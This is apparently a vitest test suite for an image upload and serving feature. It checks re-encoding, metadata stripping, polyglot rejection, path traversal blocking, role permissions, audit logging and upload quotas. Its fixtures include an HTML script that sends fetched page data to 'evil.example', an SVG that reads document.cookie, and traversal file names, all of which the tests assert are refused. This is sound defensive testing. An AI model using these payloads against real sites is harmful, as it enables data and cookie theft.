import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { eq } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { maxImageBytes } from "@/features/funnel-admin/domain/image-upload";
import { uploadQuota } from "@/features/funnel-admin/domain/upload-quota";
import { funnelImageDir, serveFunnelImage, storeFunnelImage } from "@/features/funnel-admin/server/funnel-image-store";
import { imageUploadAction } from "@/features/funnel-admin/server/image-upload-audit";
import { stepSchema } from "@/features/quiz/domain/funnel-definition";
import { listAudit } from "@/features/staff/server/record-audit";
import type { DatabaseHandle } from "@/server/db/create-database";
import { auditLog, staffUsers } from "@/server/db/schema/staff";
import { openAppDatabase } from "../../helpers/app-db";
import { routeMethods, serveRoutes, type ServedRoutes } from "../../helpers/serve-route";
import { makePrincipals } from "../staff/staff-principals";

const picture = (format: "png" | "jpeg" | "webp", background = "#c0392b") =>
  sharp({ create: { width: 4, height: 3, channels: 3, background } })[format]().toBuffer().then((b) => new Uint8Array(b));
let png: Uint8Array;
let jpeg: Uint8Array;
let webp: Uint8Array;
const html = new TextEncoder().encode('<html><body><script>fetch("/api/viewer").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></body></html>');
const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const svgWithScript = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
/** Whether an image step accepts an option with this picture. */
const funnelDefinitionOptionAccepts = (option: { value: string; label: { en: string }; image: string }) =>
  stepSchema.safeParse({ id: "pick", type: "single", display: "image", title: { en: "Pick" }, options: [option, { value: "b", label: { en: "B" } }] }).success;

beforeAll(async () => {
  [png, jpeg, webp] = await Promise.all([picture("png"), picture("jpeg"), picture("webp")]);
});

describe("funnel image uploads: whole images only, re-encoded, local storage, safe serving", () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), "funnel-images-"));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it("stores PNG, JPEG and WebP re-encoded under their content hash and serves them with a long cache", async () => {
    const stored = await storeFunnelImage(png, dir);
    expect(stored).toMatchObject({ ok: true, image: { width: 4, height: 3 } });
    if (!stored.ok) throw new Error("not stored");
    expect(stored.image.fileName).toMatch(/^[a-f0-9]{64}\.png$/);
    const again = await storeFunnelImage(png, dir);
    expect(again.ok && again.image.fileName).toBe(stored.image.fileName);
    const served = await serveFunnelImage(stored.image.fileName, dir);
    expect([served.status, served.headers.get("content-type"), served.headers.get("cache-control")]).toEqual([200, "image/png", "public, max-age=31536000, immutable"]);
    expect((await sharp(Buffer.from(await served.arrayBuffer())).metadata()).format).toBe("png");
    expect((await storeFunnelImage(jpeg, dir)).ok).toBe(true);
    expect((await storeFunnelImage(webp, dir)).ok).toBe(true);
  });

  it("drops the camera's metadata: what is stored is what the encoder wrote", async () => {
    const tagged = new Uint8Array(await sharp(Buffer.from(jpeg)).withExif({ IFD0: { Artist: "Jane Roe", ImageDescription: "home address" } }).jpeg().toBuffer());
    const stored = await storeFunnelImage(tagged, dir);
    if (!stored.ok) throw new Error("not stored");
    const bytes = await readFile(path.join(dir, stored.image.fileName));
    expect(bytes.includes("Jane Roe")).toBe(false);
    expect((await sharp(bytes).metadata()).exif).toBeUndefined();
  });

  it("refuses polyglots, other types and oversized files, storing nothing", async () => {
    const before = await readdir(dir);
    const signature = png.subarray(0, 8);
    expect(await storeFunnelImage(join(signature, html), dir)).toEqual({ ok: false, code: "invalid_image" }); // PNG magic, then a page
    expect(await storeFunnelImage(join(png, html), dir)).toEqual({ ok: false, code: "invalid_image" }); // a whole PNG with a page behind it
    expect(await storeFunnelImage(join(jpeg, html), dir)).toEqual({ ok: false, code: "invalid_image" });
    expect(await storeFunnelImage(join(webp, html), dir)).toEqual({ ok: false, code: "invalid_image" });
    expect(await storeFunnelImage(join(jpeg.subarray(0, 3), html), dir)).toEqual({ ok: false, code: "invalid_image" }); // JPEG magic, then a page
    expect(await storeFunnelImage(png.subarray(0, png.length - 20), dir)).toEqual({ ok: false, code: "invalid_image" }); // cut short
    expect(await storeFunnelImage(svgWithScript, dir)).toEqual({ ok: false, code: "unsupported_type" });
    expect(await storeFunnelImage(html, dir)).toEqual({ ok: false, code: "unsupported_type" });
    const big = new Uint8Array(maxImageBytes + 1);
    big.set(png);
    expect(await storeFunnelImage(big, dir)).toEqual({ ok: false, code: "too_large" });
    expect(await storeFunnelImage(new Uint8Array(), dir)).toEqual({ ok: false, code: "empty" });
    expect(await readdir(dir)).toEqual(before);
  });

  it("serves nothing outside the folder", async () => {
    for (const name of ["../package.json", "..%2Fpackage.json", "a/b.png", `${"a".repeat(64)}.svg`, `${"a".repeat(64)}.png`]) {
      const response = await serveFunnelImage(name, dir);
      expect(response.status, name).toBe(404);
      expect(response.headers.get("content-security-policy"), name).toMatch(/^default-src 'none'/);
    }
  });
});

describe("funnel image upload route", () => {
  let handle: DatabaseHandle;
  let served: ServedRoutes;
  let cookies: Record<string, string>;
  beforeAll(async () => {
    handle = await openAppDatabase();
    cookies = {};
    for (const principal of await makePrincipals(handle.db)) if (principal.role) cookies[principal.role] = await principal.cookie();
    const load = async (at: string) => routeMethods((await import(/* @vite-ignore */ `@/app${at}/route`)) as Record<string, unknown>);
    served = await serveRoutes([
      { path: "/api/mgmt/funnels/images", handlers: await load("/api/mgmt/funnels/images") },
      { path: "/media/funnel-images/[file]", handlers: routeMethods((await import("@/app/media/funnel-images/[file]/route")) as Record<string, unknown>) },
    ]);
  });
  afterAll(async () => {
    await served.close();
    await handle.close();
    await rm(path.dirname(funnelImageDir()), { recursive: true, force: true });
  });

  let address = 0;
  const upload = (role: string, bytes: Uint8Array, fileName = "photo.png") =>
    fetch(`${served.url}/api/mgmt/funnels/images`, {
      method: "POST",
      headers: { "content-type": "application/json", "x-forwarded-for": `198.51.100.${30 + (++address % 100)}`, cookie: cookies[role]! },
      body: JSON.stringify({ fileName, dataBase64: Buffer.from(bytes).toString("base64") }),
    });
  const errorOf = async (response: Response) => [response.status, ((await response.json()) as { error: { code: string; message: string } }).error] as const;

  it("uploads for growth, audits it, refuses the analyst, names the problem of a wrong type or size", async () => {
    const ok = await upload("growth", webp, "photo.webp");
    expect(ok.status).toBe(201);
    const { url, fileName } = (await ok.json()) as { url: string; fileName: string };
    expect(url).toMatch(/^\/media\/funnel-images\/[a-f0-9]{64}\.webp$/);
    // Every upload is in the audit log: who, which file, how large, under what name.
    const [entry] = await listAudit(handle.db, "funnel-image", fileName);
    expect(entry).toMatchObject({ action: imageUploadAction, staffEmail: "sweep-growth@platewise.test" });
    expect(JSON.stringify(entry!.diff)).toContain('"uploadedAs":"photo.webp"');
    // Visitors load it without any session, cached for a year (the name is the content's hash).
    const image = await fetch(`${served.url}${url}`);
    expect([image.status, image.headers.get("content-type"), image.headers.get("cache-control")]).toEqual([200, "image/webp", "public, max-age=31536000, immutable"]);
    expect(image.headers.get("content-security-policy")).toMatch(/^default-src 'none'/);
    expect(image.headers.get("x-content-type-options")).toBe("nosniff");
    expect(image.headers.get("content-disposition")).toBe(`inline; filename="${fileName}"`);
    expect((await fetch(`${served.url}/media/funnel-images/${"b".repeat(64)}.webp`)).status).toBe(404);
    expect((await fetch(`${served.url}${url}`, { method: "POST" })).status).toBe(405);
    // A step may show it: the funnel definition accepts the uploaded address.
    const option = { value: "a", label: { en: "A" }, image: url };
    expect(funnelDefinitionOptionAccepts(option)).toBe(true);
    expect(funnelDefinitionOptionAccepts({ ...option, image: "/media/funnel-images/../../etc.webp" })).toBe(false);
    expect((await upload("analyst", webp)).status).toBe(403);
    const [wrongStatus, wrong] = await errorOf(await upload("growth", svgWithScript, "fake.png"));
    expect([wrongStatus, wrong.code]).toEqual([400, "unsupported_type"]);
    const big = new Uint8Array(maxImageBytes + 10);
    big.set(png);
    const [bigStatus, tooBig] = await errorOf(await upload("growth", big));
    expect([bigStatus, tooBig.code]).toEqual([400, "too_large"]);
    expect(await readdir(funnelImageDir())).toHaveLength(1);
  });

  it("refuses a polyglot (PNG magic followed by HTML) with a clear message and stores nothing", async () => {
    const before = await readdir(funnelImageDir());
    const [status, error] = await errorOf(await upload("growth", join(png.subarray(0, 8), html), "cat.png"));
    expect([status, error.code]).toEqual([400, "invalid_image"]);
    expect(error.message).toMatch(/not a whole PNG, JPEG or WebP image/);
    const [appendedStatus] = await errorOf(await upload("growth", join(png, html), "cat.png"));
    expect(appendedStatus).toBe(400);
    expect(await readdir(funnelImageDir())).toEqual(before);
  });

  it("stops an account at its quota with 429 and a clear message; other accounts still upload", async () => {
    const [growth] = await handle.db.select().from(staffUsers).where(eq(staffUsers.email, "sweep-growth@platewise.test"));
    const uploadedBefore = await handle.db.select().from(auditLog).where(eq(auditLog.action, imageUploadAction));
    // Earlier uploads of this account today, as the audit log holds them.
    const earlier = Array.from({ length: uploadQuota.maxCount - uploadedBefore.length }, (_, i) => ({
      at: new Date(Date.now() - 60 * 60 * 1000 + i),
      staffId: growth!.id,
      staffEmail: growth!.email,
      action: imageUploadAction,
      entityType: "funnel-image",
      entityId: `${i.toString(16).padStart(64, "0")}.png`,
      diff: [{ op: "replace", path: [], old: null, value: { bytes: 1000 } }],
    }));
    await handle.db.insert(auditLog).values(earlier);
    const refused = await upload("growth", await picture("png", "#2980b9"), "one-more.png");
    const retryAfter = Number(refused.headers.get("retry-after"));
    const [status, error] = await errorOf(refused);
    expect([status, error.code]).toEqual([429, "upload_quota_exceeded"]);
    expect(error.message).toMatch(/^You have uploaded 100 images in the last 24 hours/);
    expect(retryAfter).toBeGreaterThan(22 * 3600);
    expect(retryAfter).toBeLessThanOrEqual(24 * 3600);
    expect((await upload("admin", await picture("png", "#2980b9"), "one-more.png")).status).toBe(201);
  });
});
